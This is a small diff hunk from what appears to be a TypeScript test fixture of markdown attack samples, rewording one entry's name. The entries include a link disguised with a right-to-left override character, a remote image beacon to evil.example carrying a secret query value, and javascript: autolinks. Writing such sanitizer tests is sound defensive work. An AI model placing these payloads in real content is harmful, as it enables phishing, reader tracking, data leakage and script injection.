@@ -115,7 +115,7 @@ const others: readonly MarkdownAttack[] = [
     text: `[https://bank.example/${control(0x202e)}moc](https://evil.example)`,
   },
   {
-    name: "a remote image that would tell who reads",
+    name: "a remote image that would reveal the reader",
     text: "![x](https://evil.example/pixel.png?secret=1)",
   },
   { name: "an autolinked script", text: "Visit javascript:alert(1) or www.javascript:alert(1)" },
